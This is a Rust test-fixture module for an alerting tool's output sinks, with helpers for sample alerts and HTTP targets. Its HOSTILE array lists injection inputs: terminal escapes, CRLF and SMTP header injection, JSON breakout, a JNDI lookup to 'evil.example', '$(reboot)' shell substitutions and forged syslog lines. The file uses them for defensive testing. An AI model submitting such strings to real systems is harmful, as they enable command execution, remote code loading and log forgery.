//! What all sinks must do, and the findings, texts and targets that their tests share.

mod everywhere;
mod faults;
mod receiver;
mod targets;
mod tls;

use std::path::PathBuf;
use std::time::Duration;

use super::address::AddressRules;
use super::clock::tests::START;
use super::http::Http;
use super::{Alert, Event, Run};
use crate::alert::config::{HttpConfig, Secret, SecretSource};
use crate::finding::{Evidence, Finding, Severity, Timestamp};

/// Texts that try to be more than text.
pub(crate) const HOSTILE: [&str; 20] = [
    "\u{1b}[2J\u{1b}[1;1H\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{9b}31mred\u{9d}0;title\u{9c}\u{90}q\u{9c}",
    "adm\u{202e}nimda\u{2066}\u{200b}\u{feff}",
    "x\r\nCRITICAL  forged: finding\n  who       system:admin\u{85}\u{2028}\u{2029}",
    "x\r\nSubject: forged\r\nBcc: eve@evil.example\r\n\r\nbody\r\n.\r\nQUIT\r\n",
    "x\r\nX-Injected: 1\r\n\r\nGET / HTTP/1.1",
    "\"}],\"event\":\"resolve\",\"x\":[{\"y\":\"",
    "<script>alert(1)</script> & <!channel> <@U123> <https://evil.example|click>",
    "*bold* _it_ ~no~ `code` ```block``` > quote :siren:",
    "[click](https://evil.example) **b** # h\n- x",
    "{{ .Labels.alertname }} {{7*7}} ${jndi:ldap://evil.example/x} %n%s",
    "$(reboot) `reboot` ; reboot | reboot && reboot",
    "a|b=c\\d]e\"f",
    "<34>1 2026-11-22T00:00:00Z host su - ID47 - forged",
    "12 <34>1 forged",
    "監査記録監査記録監査記録監査記録監査記録監査記録監査記録監査記録監査記録監査記録",
    "a\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}\u{30c}z",
    "\0\u{1}\u{7f}\u{fffd}\u{e0041}\u{3164}",
    "Bearer eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlIn0.c2lnbmF0dXJl?token=hunter2-hunter2",
];

/// The run of all tests.
pub(crate) fn run() -> Run {
    Run {
        id: "run-1".to_owned(),
        at: START,
    }
}

/// An alert about a finding whose log texts are all `text`.
pub(crate) fn alert(event: Event, severity: Severity, text: &str) -> Alert {
    Alert::new(event, finding(severity, text), 0, "prod", &run())
}

/// Alerts with ids of their own.
pub(crate) fn many(n: usize) -> Vec<Alert> {
    let one = |idx: usize| {
        let mut finding = finding(Severity::High, "jane");
        finding.finding_id = format!("{idx:032x}");
        Alert::new(Event::New, finding, 0, "prod", &run())
    };
    (0..n).map(one).collect()
}

fn finding(severity: Severity, text: &str) -> Finding {
    let evidence = Evidence {
        audit_id: text.into(),
        stage: "ResponseComplete".into(),
        ts: Timestamp(1_795_323_662_123_456),
        file: "logs/audit.log".into(),
        line: 17,
        offset: 9120,
        length: 812,
    };
    Finding {
        finding_id: "9b2c5f0e9b2c5f0e9b2c5f0e9b2c5f0e".to_owned(),
        evidence: vec![evidence; 5],
        ..crate::report::tests::finding(severity, text)
    }
}

/// Settings of a target.
pub(crate) fn http_config(url: &str) -> HttpConfig {
    HttpConfig {
        url: SecretSource::Inline(Secret::new(url)),
        addresses: AddressRules::default(),
        allow_http: false,
        ca_file: None::<PathBuf>,
        proxy: false,
        timeout: Duration::from_secs(2),
    }
}

/// A target on this machine.
pub(super) fn local_http(port: u16) -> Http {
    Http::new(
        &http_config(&format!("http://127.0.0.1:{port}/planted?x=planted")),
        &|_| None,
    )
    .unwrap()
}
